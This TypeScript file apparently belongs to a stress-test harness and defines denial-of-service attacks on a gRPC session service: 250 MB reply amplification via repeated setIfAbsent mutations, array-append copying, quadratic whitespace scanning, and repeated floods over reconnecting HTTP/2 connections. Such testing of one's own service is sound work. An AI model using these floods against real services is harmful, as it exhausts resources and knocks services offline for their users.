import { SessionServiceService } from '@session-sidecar/proto/session/v1/session_service';
import { grpcFrame } from '../sides/raw-http2';
import type { Attack, AttackTarget } from './attack';
import { reconnecting, unary } from './http2';
import { repeat } from './repeat';
import { largeBytes, mutation, storeSession, times, updateRequest } from './sessions';

/** The default limit for the mutations of a request. */
const mutationCount = 1000;

/** Sends 1,000 mutations per request, each of which returns the same 250 KiB: 250 MB per reply. */
export const setIfAbsent: Attack = async (target) => {
  const { token } = await storeSession(target, 'x'.repeat(largeBytes));
  const request = updateRequest(
    token,
    times(mutationCount, () => mutation.setIfAbsent('value', '1')),
  );
  return updating(target, request);
};

/** Appends to an array of 200 KB, which each append may copy. */
export const appends: Attack = async (target) => appending(target, JSON.stringify(times(100_000, () => 1)));

/** Appends to an array of 120 KB of white space, which a naive regular expression scans in quadratic time. */
export const appendsToSpace: Attack = async (target) => appending(target, `[${' '.repeat(120 * 1024)}]`);

/** Every request resets the array first, so that it never exceeds the size limit. */
async function appending(target: AttackTarget, array: string) {
  const { token } = await storeSession(target, '');
  const mutations = [mutation.set('list', array), ...times(mutationCount - 1, () => mutation.append('list', '1'))];
  return updating(target, updateRequest(token, mutations));
}

function updating({ address }: AttackTarget, request: Uint8Array): Awaited<ReturnType<Attack>> {
  const frame = grpcFrame(request);
  return async (assault) => {
    const connections = times(2, () => reconnecting(assault, address));
    await repeat(assault, connections.length, (n) =>
      unary(connections[n]!, SessionServiceService.updateSession.path, frame),
    );
  };
}
